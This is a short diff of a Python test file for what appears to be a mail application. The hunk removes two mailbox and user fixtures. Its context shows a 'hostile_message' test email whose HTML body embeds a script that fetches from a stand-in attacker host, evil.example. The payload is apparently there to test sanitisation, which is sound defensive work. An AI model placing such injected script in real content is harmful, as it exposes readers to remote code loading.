@@ -36,17 +36,6 @@ Ordonnance</p><script>fetch("https://evil.example/script")</script>
 <img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="></body></html>"""
 
 
-@pytest.fixture
-def jeanne_mailbox(directory: dict[str, Mailbox]) -> Mailbox:
-    return directory[JEANNE]
-
-
-@pytest.fixture
-def jeanne(jeanne_mailbox: Mailbox) -> User:
-    assert jeanne_mailbox.owner is not None
-    return jeanne_mailbox.owner
-
-
 def hostile_message() -> EmailMessage:
     message = EmailMessage()
     message["Subject"] = "Résultats"
